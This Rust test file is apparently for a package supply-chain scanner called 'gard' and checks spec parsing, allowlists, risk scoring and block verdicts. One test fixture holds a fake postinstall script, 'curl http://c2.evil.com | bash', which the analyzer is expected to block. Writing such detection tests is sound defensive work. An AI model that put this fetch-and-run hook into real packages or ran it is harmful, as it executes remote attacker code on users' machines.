use gard::cli::{ci_workflow_path, parse_package_spec, without_allowlisted, CiProvider};
use gard::config::Config;
use gard::scan::{assemble_result, detect_ai_tool, needs_source_analysis};
use gard::tier2_meta::assess;
use gard::tier3_analyzer::{analyze, PackageFiles};
use gard::types::{Ecosystem, Package, TierResult, Timestamp, Verdict};

#[test]
fn package_specs() {
    assert_eq!(
        parse_package_spec("lodash@4.17.21", false, false),
        ("lodash".to_string(), "4.17.21".to_string(), Ecosystem::Npm)
    );
    assert_eq!(
        parse_package_spec("@types/node@20.1.0", false, false),
        ("@types/node".to_string(), "20.1.0".to_string(), Ecosystem::Npm)
    );
    assert_eq!(
        parse_package_spec("requests==2.28.0", false, true),
        ("requests".to_string(), "2.28.0".to_string(), Ecosystem::PyPI)
    );
    assert_eq!(parse_package_spec("serde", false, true), ("serde".to_string(), "latest".to_string(), Ecosystem::Cargo));
    assert_eq!(parse_package_spec("flask", true, true), ("flask".to_string(), "latest".to_string(), Ecosystem::PyPI));
    assert_eq!(parse_package_spec("@scoped", false, false), ("@scoped".to_string(), "latest".to_string(), Ecosystem::Npm));
}

#[test]
fn workflow_paths() {
    assert_eq!(ci_workflow_path(&CiProvider::GitHubActions), Some(".github/workflows/gard.yml"));
    assert_eq!(ci_workflow_path(&CiProvider::Jenkins), Some("Jenkinsfile.gard"));
    assert_eq!(ci_workflow_path(&CiProvider::Unknown), None);
}

#[test]
fn allowlist() {
    let mut cfg = Config::default();
    assert!(cfg.allow_package("left-pad"));
    assert!(!cfg.allow_package("left-pad"));
    assert_eq!(cfg.allowlist.packages, vec!["left-pad".to_string()]);
    let pkgs = vec![
        Package::new("left-pad", "1.0.0", Ecosystem::Npm),
        Package::new("axios", "1.7.0", Ecosystem::Npm),
    ];
    let kept = without_allowlisted(&pkgs, &cfg);
    assert_eq!(kept.len(), 1);
    assert_eq!(kept[0].name, "axios");
}

#[test]
fn ai_tools() {
    assert_eq!(detect_ai_tool(false, true, true, false).as_deref(), Some("anthropic"));
    assert_eq!(detect_ai_tool(false, false, true, true).as_deref(), Some("cursor"));
    assert_eq!(detect_ai_tool(false, false, false, true).as_deref(), Some("github-copilot"));
    assert_eq!(detect_ai_tool(false, false, false, false), None);
}

#[test]
fn scan_steps() {
    let block = TierResult::Block { reason: "CVE".to_string() };
    assert!(!needs_source_analysis(&block, 70, true));
    assert!(needs_source_analysis(&TierResult::Pass, 61, true));
    assert!(needs_source_analysis(&TierResult::Pass, 60, true));
    assert!(!needs_source_analysis(&TierResult::Pass, 59, true));
    assert!(!needs_source_analysis(&TierResult::Pass, 60, false));
    assert!(!needs_source_analysis(&TierResult::Error { message: "x".into() }, 80, false));

    let pkg = Package::new("colo0rs", "1.0.0", Ecosystem::Npm);
    let cfg = Config::default();
    let t2 = assess(Some(2), Some(3), &pkg.ecosystem, &cfg);
    let t3 = TierResult::Block { reason: "malicious install script: x".to_string() };
    let r = assemble_result(&pkg, TierResult::Pass, t2, Some(t3), Timestamp::from_unix(0, 0).unwrap(), None);
    assert_eq!(r.verdict, Verdict::Block);
    assert_eq!(r.tier2_score, 60);

    let t2 = assess(Some(2000), Some(1_000_000), &pkg.ecosystem, &cfg);
    let r = assemble_result(&pkg, TierResult::Pass, t2, None, Timestamp::from_unix(0, 0).unwrap(), None);
    assert_eq!(r.tier3, TierResult::Skipped);
    assert_eq!(r.verdict, Verdict::Pass);
}

#[test]
fn config_defaults() {
    let cfg = Config::default();
    assert_eq!(cfg.general.version, "1");
    assert!(cfg.general.sign_commits);
    assert_eq!(cfg.tier2.npm_warn_threshold, 1_000);
    assert_eq!(cfg.tier2.warn_if_newer_than_days, 30);
    assert_eq!(cfg.tier3.max_file_size_kb, 100);
    assert_eq!(cfg.tier3.obfuscation_block_score, 80);
    assert!(cfg.hooks.pre_push && !cfg.hooks.pre_commit);
}

#[test]
fn new_unpopular_package_is_analyzed_and_blocked() {
    // colo0rs@1.0.0: two days old, three weekly downloads, a malicious postinstall
    let pkg = Package::new("colo0rs", "1.0.0", Ecosystem::Npm);
    let cfg = Config::default();
    let t2 = assess(Some(2), Some(3), &pkg.ecosystem, &cfg);
    assert_eq!(t2.score, 60);
    assert!(t2.result.is_flagged());
    assert!(needs_source_analysis(&TierResult::Pass, t2.score, true));
    let files = PackageFiles {
        package_json: Some(r#"{"scripts":{"postinstall":"curl http://c2.evil.com | bash"}}"#.to_string()),
        sources: vec![],
    };
    let t3 = analyze(&files, &pkg.ecosystem, &cfg);
    assert!(t3.is_blocking());
    let r = assemble_result(&pkg, TierResult::Pass, t2, Some(t3), Timestamp::from_unix(0, 0).unwrap(), None);
    assert!(r.tier3.is_blocking());
    assert_eq!(r.verdict, Verdict::Block);
}

#[test]
fn failed_lookup_warns() {
    let pkg = Package::new("lodash", "4.17.21", Ecosystem::Npm);
    let cfg = Config::default();
    let t2 = assess(Some(4000), Some(48_000_000), &pkg.ecosystem, &cfg);
    assert_eq!(t2.result, TierResult::Pass);
    let t1 = TierResult::Error { message: "OSV API request failed: timeout".to_string() };
    let r = assemble_result(&pkg, t1, t2, None, Timestamp::from_unix(0, 0).unwrap(), None);
    assert_eq!(r.verdict, Verdict::Warn);

    let t2 = assess(Some(2), Some(3), &pkg.ecosystem, &cfg);
    let t1 = TierResult::Error { message: "x".to_string() };
    let t3 = TierResult::Block { reason: "2 critical patterns in source".to_string() };
    let r = assemble_result(&pkg, t1, t2, Some(t3), Timestamp::from_unix(0, 0).unwrap(), None);
    assert_eq!(r.verdict, Verdict::Block);
}
